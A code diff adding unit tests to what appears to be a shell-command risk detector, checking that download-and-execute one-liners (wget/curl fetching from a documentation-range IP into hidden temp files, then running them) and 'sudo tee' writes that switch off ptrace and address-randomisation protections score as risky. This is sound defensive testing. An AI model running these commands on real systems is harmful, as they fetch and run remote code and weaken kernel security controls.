@@ -91,5 +91,28 @@ TEST(CisoDataflow, PythonConstantsAreBoundWhereUsed) {
   EXPECT_EQ(hosts_of(a), (std::set<std::string>{"198.51.100.3"})) << a["checklist"].dump();
 }
 
+TEST(CisoDataflow, ClusteredOutputOptionsNameTheDownloadedFile) {
+  // `-qO FILE` and `-sLo FILE` end a cluster of short options with the output option.
+  for (const char* cmd : {"wget -qO /dev/shm/.s http://198.51.100.9/s && sh /dev/shm/.s",
+                          "curl -sLo /tmp/.k http://198.51.100.9/k && sh /tmp/.k",
+                          "curl -fsSL -o/tmp/.k http://198.51.100.9/k; bash /tmp/.k"}) {
+    const auto a = run(cmd, true);
+    EXPECT_GE(a["risk_score"].get<int>(), 50) << cmd << ": " << rule_ids(a);
+  }
+  // A value that merely contains the letter is no output option: `-XPOST` names no file.
+  EXPECT_LT(run("curl -XPOST http://localhost:8080/build.sh && sh build.sh", true)["risk_score"].get<int>(), 30);
+  EXPECT_LT(run("wget -qO- https://example.com/status.json | jq .", true)["risk_score"].get<int>(), 30);
+}
+
+TEST(CisoDataflow, EchoIntoTeeReadsAsARedirect) {
+  // `echo V | sudo tee F` writes V to F as root: the redirect rules see it as `echo V >F`.
+  EXPECT_TRUE(has_rule(run("echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope", true),
+                       "defense_evasion.security_controls_off"));
+  EXPECT_TRUE(has_rule(run("echo 0 | sudo tee /proc/sys/kernel/randomize_va_space", true),
+                       "defense_evasion.security_controls_off"));
+  EXPECT_LT(run("echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward", true)["risk_score"].get<int>(), 30);
+  EXPECT_LT(run("echo performance | sudo tee /sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", true)["risk_score"].get<int>(), 30);
+}
+
 }  // namespace
 }  // namespace nonaxis::ciso::testing
